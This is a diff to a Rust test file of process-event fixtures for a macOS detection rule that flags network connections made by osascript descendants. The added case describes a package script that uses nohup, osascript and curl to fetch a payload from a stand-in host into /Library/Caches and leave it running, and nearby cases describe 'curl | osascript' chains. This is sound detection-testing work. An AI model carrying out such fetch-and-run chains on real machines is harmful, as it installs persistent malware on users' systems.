@@ -24,7 +24,7 @@ struct Chain {
 
 const CHAIN: Chain = Chain { name: "", events: "", alerts: &[], off: &[], silent: "" };
 
-const CHAINS: [Chain; 53] = [
+const CHAINS: [Chain; 54] = [
     Chain {
         name: "a pasted curl | osascript and its child curl",
         events: "0 z=zsh; 1 c=curl < z : -s https://a.example; 1 o=osascript < z; 2 c -> 93.184.216.34; 3 d=curl < o; 4 d -> 93.184.216.35",
@@ -284,6 +284,12 @@ const CHAINS: [Chain; 53] = [
     Chain {
         name: "a package's script",
         events: "0 n=node; 1 s=sh < n; 2 o=osascript < s : -e 1; 3 c=curl < o; 4 c -> 93.184.216.34",
+        alerts: &["osascript-descendant-network-connection"],
+        ..CHAIN
+    },
+    Chain {
+        name: "a package whose script in the background fetches a payload and leaves it running",
+        events: "0 n=node; 1 s=sh < n : -c 'nohup osascript /tmp/6 &'; 1 o=osascript < s : /tmp/6; 1 s end; 2 h=sh < o; 2 c=curl < h : -o /Library/Caches/com.example.mond -d x -s http://a.example:8000/6; 3 c -> 93.184.216.34; 4 m=/Library/Caches/com.example.mond < h; 5 h end; 5 o end; 64 m -> 93.184.216.35",
         alerts: &["osascript-descendant-network-connection"],
         ..CHAIN
     },
